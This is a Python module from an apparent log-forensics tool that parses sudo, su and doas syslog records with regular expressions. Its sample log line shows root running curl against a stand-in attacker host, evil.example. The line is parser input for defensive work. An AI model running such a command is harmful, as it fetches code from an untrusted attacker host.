"""sudo, su and doas: who ran what as whom. They name no peer but in PAM's words.

Source: sudoers manual, "Log format"; shadow's and util-linux's su; OpenBSD's doas.
"""

from __future__ import annotations

from traque.logs._envelope import TIMES
from traque.logs._format import LogFormat, specific
from traque.logs._sayings import Saying, messages
from traque.logs.syslog import reader
from traque.model import Initiator, Outcome

_NONE = Initiator.UNKNOWN

message = messages(
    "sudo",
    (
        Saying(
            r"^ *(?P<user>\S{1,255}) : (?P<action>\d+ incorrect password attempts?|command not allowed|"
            r"user NOT in sudoers) ; (?:\w+=[^;]{0,1024} ; ){0,6}COMMAND=(?P<command>.{0,8192})",
            Outcome.UNKNOWN,
            "",
            _NONE,
        ),
        Saying(
            r"^ *(?P<user>\S{1,255}) : (?:\w+=[^;]{0,1024} ; ){0,6}COMMAND=(?P<command>.{0,8192})",
            Outcome.UNKNOWN,
            "command",
            _NONE,
        ),
        Saying(
            r"^(?P<action>FAILED SU|Successful su|BAD SU)(?: \(to (?:\S+)\)| for \S+)? (?:by "
            r")?(?P<user>\S{1,255})",
            Outcome.UNKNOWN,
            "",
            _NONE,
        ),
        Saying(
            r"^(?P<user>\S{1,255}) ran (?P<action>command) (?P<command>.{0,8192}?) as \S+ from ",
            Outcome.UNKNOWN,
            "",
            _NONE,
        ),
    ),
)

SPEC = LogFormat(
    name="sudo",
    title="sudo, su, doas",
    example=b"2021-01-07T04:18:07+01:00 bastion sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
    b"COMMAND=/usr/bin/curl http://evil.example/x",
    knows="Nothing: the records name an account and a command, not a peer.",
    times=TIMES,
    sniff=lambda head: specific(head.share_of_messages("sudo")),
    reader=reader,
    programs=("sudo", "su", "doas"),
    message=message,
    outcomes=frozenset({Outcome.UNKNOWN}),
)
